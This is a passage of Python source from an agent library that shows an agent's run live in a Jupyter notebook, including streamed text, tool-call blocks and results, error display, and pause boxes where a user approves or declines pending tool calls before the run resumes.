            if live.call.state == "running":
                live.call.state = "cancelled"
                live.refresh(now=True)
        if isinstance(error, (KeyboardInterrupt, asyncio.CancelledError)):
            self._new_output(error_bundle("⏹ Interrupted: the run was stopped.", "fa-interrupted"))
        else:
            self._new_output(error_bundle(failure_text(error)))
        self.finish()

    def _on_text(self, text: str) -> None:
        self._turn_text += text
        self._text_value += text
        if self._text is None:
            if self._text_value.strip():  # no empty display for the whitespace before a call
                self._text = self._new_output(text_bundle(self._text_value, self._resolve))
        else:
            self._text.set(functools.partial(text_bundle, self._text_value, self._resolve))

    def _on_approval(self, calls: list[PendingCall]) -> None:
        """The run paused: show what waits and how to answer, then end the run the way `submit` does."""
        paused = ApprovalRequired(calls)
        self._show_pause(paused)
        raise paused

    def _show_pause(self, paused: ApprovalRequired) -> None:
        """The turn's calls stop showing as running (those that wait say so, the others run on resume), then
        the box with the waiting calls and the line (or buttons) that answers them."""
        from functionary_agent.notebook.approvals import mark_shown, pending_bundle, resume_line

        waiting = {call.id for call in paused.calls}
        names = {call.name for call in paused.calls}
        for live in self._calls:
            if live.call.state == "running":
                asked = live.id in waiting if live.id else live.call.name in names
                live.call.state = "waiting" if asked else "paused"
                live.refresh(now=True)
        line = self._resume_line(paused.calls) if self._resume_line else resume_line(None, paused.calls, {})
        self._new_output(pending_bundle(paused.calls, with_buttons=self._ask is not None, resume_line=line))
        self.finish()
        if self._ask is not None:
            self._ask(paused.calls)
        mark_shown(paused)

    def _on_call_started(self, event: ToolCallStarted) -> None:
        self._close_text()
        call = _Call(event.name)
        live = _LiveCall(event.id, call, self._new_output(_call_bundle(call)))
        self._calls.append(live)
        self._by_index[event.index] = live

    def _on_result(self, event: ToolResult) -> None:
        self._results_seen = True
        live = self._match(event)
        call = live.call
        call.name, call.arguments, call.content = event.name, event.arguments, event.content
        call.state = "error" if event.is_error else "repeated" if event.repeated else "ok"
        call.duration = event.duration or None
        if event.name == PYTHON:
            call.images = _load_images(event.content, self._resolve)
        live.refresh(now=True)

    def _match(self, event: ToolResult) -> _LiveCall:
        """The block this result completes: by id, else (ids missing from the stream) the first unanswered
        call of that name; a result with no started call gets a new block."""
        waiting = [live for live in self._calls if live.call.content is None]
        for live in waiting:
            if live.id and live.id == event.id:
                return live
        for live in waiting:
            if live.call.name == event.name:
                return live
        call = _Call(event.name, event.arguments)
        live = _LiveCall(event.id, call, self._new_output(_call_bundle(call)))
        self._calls.append(live)
        return live

    def _close_text(self) -> None:
        if self._text is not None:
            self._text.flush()
        self._text, self._text_value = None, ""

    def _new_output(self, bundle: Bundle) -> _Output:
        self.finish()  # a new display goes below the others: bring those up to date first
        output = _Output(self._show, bundle, self._clock, self._interval)
        self._outputs.append(output)
        return output


def _ipython_show(bundle: Bundle) -> Callable[[Bundle], None]:
    from IPython.display import display

    handle = display(bundle, raw=True, display_id=True)

    def update(new: Bundle) -> None:
        handle.update(new, raw=True)

    return update


def _no_show(bundle: Bundle) -> Callable[[Bundle], None]:
    return lambda new: None


# -- what Conversation.submit calls in a notebook ----------------------------------------------------------
class _ShownAnswer(str):
    """The answer of a run the live display has already shown. It is a plain `str`, except that the cell that
    produced it does not echo it a second time as the cell's result; shown from a later cell, it displays."""

    cell: object = None

    def _ipython_display_(self) -> None:
        shell = _shell()
        if shell is not None and self.cell is not None and getattr(shell, "execution_count", None) == self.cell:
            return
        from IPython.display import display

        display(str(self))


def _live_display(chat: Conversation) -> LiveDisplay:
    if _shell() is None:
        logger.warning("no IPython shell is running: the run is not displayed")
        return LiveDisplay(show=_no_show)
    from functionary_agent.notebook.approvals import approval_panel, resume_line, widgets_available

    ask = None
    if widgets_available():
        def ask(calls: list[PendingCall]) -> None:
            from IPython.display import display

            display(approval_panel(chat, calls))

    def line(calls: Sequence[PendingCall]) -> str:
        return resume_line(chat, calls, notebook_namespace())

    return LiveDisplay(resolve_image=image_resolver(chat), ask=ask, resume_line=line)


def notebook_namespace() -> Mapping[str, Any]:
    """The notebook's global names (empty outside IPython)."""
    namespace = getattr(_shell(), "user_ns", None)
    return namespace if isinstance(namespace, Mapping) else {}


def _shown(answer: str) -> str:
    shown = _ShownAnswer(answer)
    shown.cell = getattr(_shell(), "execution_count", None)
    return shown


@contextlib.contextmanager
def _displayed_run(chat: Conversation) -> Iterator[LiveDisplay]:
    """The live display of one run: the caller feeds it the run's events; a failure is shown, then raised (a
    pause too, which the kernel then shows as no traceback: see `_notebook_approvals`)."""
    from functionary_agent.notebook.approvals import install_pause_display, remember

    install_pause_display(_shell())
    live = _live_display(chat)
    try:
        yield live
    except BaseException as exc:
        live.fail(exc)
        if isinstance(exc, ApprovalRequired):
            remember(chat, exc.calls)
        raise
    live.finish()


def submit_with_display(chat: Conversation, content: Content = None) -> str:
    """`chat.submit(content)`, shown live in the notebook; returns the final answer."""
    with _displayed_run(chat) as live:
        for event in chat.stream(content):
            live.handle(event)
    return _shown(live.answer)


async def asubmit_with_display(chat: Conversation, content: Content = None) -> str:
    """`await chat.asubmit(content)`, shown live in the notebook; returns the final answer."""
    with _displayed_run(chat) as live:
        async for event in chat.astream(content):
            live.handle(event)
    return _shown(live.answer)


def resume(decisions: Mapping[str, Decision]) -> Any:
    """Answer a run shown paused in this notebook, whatever holds its conversation: `resume({call_id: True})`
    (False or a reason string declines) finds the conversation that waits on those calls and resumes it, as
    `Conversation.resume` does. The pause box offers this line when no global name refers to the conversation."""
    from functionary_agent.notebook.approvals import remember, waiting_conversation

    chat = waiting_conversation(decisions, notebook_namespace())
    try:
        return chat.resume(decisions)
    except ApprovalRequired as paused:  # it paused again: the next box offers this line again
        remember(chat, paused.calls)
        raise


def _install_at_import() -> None:
    """In a kernel, a pause shows as a pause from the first `submit`, typed ones (not displayed live) included."""
    if in_notebook():
        from functionary_agent.notebook.approvals import install_pause_display

        install_pause_display(_shell())


_install_at_import()
